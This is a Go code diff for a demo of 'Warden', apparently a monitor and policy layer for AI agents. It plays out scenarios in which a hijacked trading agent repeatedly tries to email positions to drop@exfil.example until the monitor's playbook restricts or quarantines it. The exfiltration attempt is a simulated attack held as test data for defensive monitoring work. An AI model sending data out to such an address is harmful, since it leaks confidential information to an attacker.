@@ -29,7 +29,7 @@ const (
 	denied    = "deny"
 	approval  = "approval required"
 	refused   = "refused (401)"
-	contained = "quarantined by Warden"
+	contained = "contained by Warden"
 	failed    = "error"
 )
 
@@ -130,7 +130,7 @@ func (d *Demo) Play(ctx context.Context, out io.Writer) (bool, error) {
 			{trader, "attack: stolen token, used without the agent's key", refused, d.stolen},
 			{trader, "attack: hijacked, it emails the positions out, again and again", contained, d.hijack(call(trader, "email__send", map[string]string{"to": "drop@exfil.example", "subject": "positions"}))},
 			{"warden", "what the monitor saw, and what the playbook did", "done", d.incident(trader)},
-			{trader, "gets a quote again, a moment later", denied, call(trader, "market-data__get_quote", map[string]string{"symbol": "ACME"})},
+			{trader, "tries to email the positions out once more", denied, call(trader, "email__send", map[string]string{"to": "drop@exfil.example", "subject": "positions"})},
 		}},
 		{"Healthcare: a radiology agent", "healthcare", []step{
 			{radiol, "lists its tools", allowed, list(radiol)},
@@ -235,20 +235,21 @@ func (d *Demo) redacted(run func(context.Context) result) func(context.Context) 
 
 // hijack repeats a call the agent's roles never allow until Warden stops
 // it by itself: the monitor scores each denial, and the bundle's playbook
-// quarantines the agent and revokes its tokens once the risk is critical.
+// steps the agent up at medium risk, restricts it to reading at high, and
+// quarantines it at critical.
 func (d *Demo) hijack(attempt func(context.Context) result) func(context.Context) result {
 	return func(ctx context.Context) result {
 		id := trader
 		for n := 1; n <= 30; n++ {
 			r := attempt(ctx)
-			if a, err := d.App.Registry.Agent(ctx, id); err == nil && a.Status == store.StatusQuarantined {
-				return mk(contained, fmt.Sprintf("after %d denied attempts (the last: %s)", n, r.detail))
+			if a, err := d.App.Registry.Agent(ctx, id); err == nil && (a.Status == store.StatusRestricted || a.Status == store.StatusQuarantined) {
+				return mk(contained, fmt.Sprintf("%s after %d denied attempts (the last: %s)", a.Status, n, r.detail))
 			}
 			if r.outcome != denied {
 				return mk(failed, fmt.Sprintf("attempt %d: %s", n, r.detail))
 			}
 		}
-		return mk(failed, "30 denied attempts, and the agent is still active")
+		return mk(failed, "30 denied attempts, and the agent is neither restricted nor quarantined")
 	}
 }
 
@@ -265,7 +266,7 @@ func (d *Demo) incident(id string) func(context.Context) result {
 		for deadline := time.Now().Add(5 * time.Second); ; time.Sleep(10 * time.Millisecond) {
 			incs, err = d.App.Store.Incidents(ctx, store.IncidentFilter{AgentID: id, Open: true})
 			if err != nil || (len(incs) > 0 && slices.ContainsFunc(incs[0].Actions, func(a store.IncidentAction) bool {
-				return a.Action == policy.ResponseQuarantine
+				return a.Action == policy.ResponseRestrict || a.Action == policy.ResponseQuarantine
 			})) || time.Now().After(deadline) {
 				break
 			}
